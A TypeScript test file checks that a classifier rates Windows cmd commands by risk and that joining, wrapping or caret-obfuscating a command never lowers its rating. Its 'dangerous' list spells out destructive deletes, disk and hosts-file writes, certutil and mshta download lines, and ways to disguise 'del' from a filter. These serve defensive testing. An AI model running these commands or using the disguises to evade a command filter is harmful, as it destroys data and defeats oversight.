import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import type { Risk } from '../../../runtime/model/risk.js';
import { classifyShell } from '../../../runtime/risk/index.js';
import { grammars } from '../../support/grammars.js';

const cases: Readonly<Record<Risk, readonly string[]>> = {
  safe: [
    'dir C:\\logs & ipconfig /all',
    '@echo off\necho hello\nrem del /s C:\\x\n:: del /s C:\\x\n:end',
    'tasklist | findstr /i "java" > nul 2>&1',
    'if exist C:\\x\\a.txt (type C:\\x\\a.txt) else (echo none)',
    'if /i not "%COMPUTERNAME%"=="SRV1" echo other',
    'if %errorlevel% neq 0 exit /b 1',
    'for /l %i in (1,1,5) do @ping -n 1 10.0.0.%i',
    'for /f "tokens=2" %%p in (\'tasklist /fi "imagename eq a.exe"\') do echo %%p',
    'cmd /c "dir C:\\x | find "log""',
    '%COMSPEC% /c ver',
    'C:\\Windows\\System32\\ipconfig.exe /all',
    'echo del x ^& rd /s /q y',
    'echo "a & del x"',
    'set LOG=C:\\temp\\x.log\ntype %LOG%',
    'call :sub a\ngoto :eof\n:sub\necho %1',
    'ping <host name> -n 4',
    'dir "\\\\<server>\\share"',
    'cd.. & cd\\ & D: & dir/s',
    'net user /?',
    'di^r',
    'for /f "tokens=5" %a in (\'netstat -aon ^| findstr :8080\') do @echo %a',
  ],
  unknown: ['frobnicate', 'call :nowhere', 'if', 'x.bat', 'type a >'],
  caution: [
    'dir > out.txt',
    'start notepad',
    'set PATH=C:\\x',
    'net stop spooler && net start spooler',
    'md C:\\x',
    'echo y >> a.log',
    'del C:\\x\\a.tmp',
  ],
  dangerous: [
    'd^el /s x',
    '"del" *.log',
    'set x=del\n%x% foo',
    'set x=del & call %x% foo',
    'set x=del & cmd /c %x% foo',
    'd%y%el x',
    '!x! foo',
    '%y:~0,3% x',
    'set F=/s /q C:\\x\nrd %F%',
    'dir & rd/s/q C:\\x',
    '(dir\n(rd /s /q C:\\x))',
    'if exist x (dir) else rd /s /q x',
    'for %i in (a b) do del %i',
    "for /f %i in ('dir /b') do %i",
    "for /f %i in ('rd /s /q x') do echo %i",
    'cmd /c "rd /s /q x"',
    'cmd /s /c "echo a & rd /s /q x"',
    'rem & rd /s /q x',
    'start "" /b /wait cmd /c rd /s /q x',
    "for /f %i in ('dir ^& rd /s /q x') do echo %i",
    'set a=x ^& rd /s /q y\necho %a%',
    'set "a=x & rd /s /q y"\necho %a%',
    'type x.bat | cmd',
    'echo x > \\\\.\\PhysicalDrive0',
    'echo x>C:\\Windows\\System32\\drivers\\etc\\hosts',
    'echo x > %SystemRoot%\\a',
    'dir ^\n& rd /s /q x',
    'rd "C:\\x\\" /s /q',
    'certutil -urlcache -f http://x.example/a a',
    'wmic process call create a.exe',
    'mshta http://x.example/a',
    'd\u0435l x',
  ],
};

function judge(text: string): Risk {
  return classifyShell(text, { shell: 'cmd', parsers: grammars }).risk;
}

const order: readonly Risk[] = ['safe', 'unknown', 'caution', 'dangerous'];
const rank = (text: string): number => order.indexOf(judge(text));
const all = Object.values(cases).flat();

for (const risk of order) {
  test(`commands of Windows that are ${risk} are judged so`, () => {
    assert.deepEqual(
      cases[risk].filter((text) => judge(text) !== risk).map((text) => [text, judge(text)]),
      [],
    );
  });
}

test('joined commands of Windows have at least the class of the worst', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...all.filter((text) => !/[\n>]|^if$|rem/.test(text))),
      fc.constantFrom(...all.filter((text) => !/\n/.test(text))),
      fc.constantFrom(' & ', ' && ', ' || ', ' | ', '\n', '\r\n'),
      (one, other, joint) => {
        assert.ok(rank(`${one}${joint}${other}`) >= Math.max(rank(one), rank(other)), `${one}${joint}${other}`);
      },
    ),
    { numRuns: 600 },
  );
});

test('a block, a loop, a condition or another shell around a command never lowers its class', () => {
  const wrappers: readonly ((text: string) => string)[] = [
    (text) => `(${text}\n)`,
    (text) => `if exist x (${text}\n)`,
    (text) => `if 1==1 ${text}`,
    (text) => `for %q in (1 2) do ${text}`,
    (text) => `cmd /c "${text}"`,
    (text) => `@${text}`,
    (text) => `start /b ${text}`,
    (text) => `rem x\n${text}`,
    (text) => `echo off & ${text}`,
  ];
  fc.assert(
    fc.property(
      fc.constantFrom(...all.filter((text) => !/["\n:!]|^(if|for|rem)|^\(|start/.test(text))),
      fc.constantFrom(...wrappers),
      (text, wrap) => {
        assert.ok(rank(wrap(text)) >= rank(text), `${wrap(text)}: ${judge(wrap(text))} < ${judge(text)}`);
      },
    ),
    { numRuns: 600 },
  );
});

test('a caret before a letter never lowers the class', () => {
  fc.assert(
    fc.property(fc.constantFrom(...all.filter((text) => !/["%!^<\n]/.test(text))), fc.nat(), (text, at) => {
      const place = at % text.length;
      fc.pre(/[a-z]/i.test(text[place] ?? '') && !/\brem|if |for |\bcmd|set /.test(text));
      const hidden = `${text.slice(0, place)}^${text.slice(place)}`;
      assert.ok(rank(hidden) >= rank(text), hidden);
    }),
    { numRuns: 600 },
  );
});
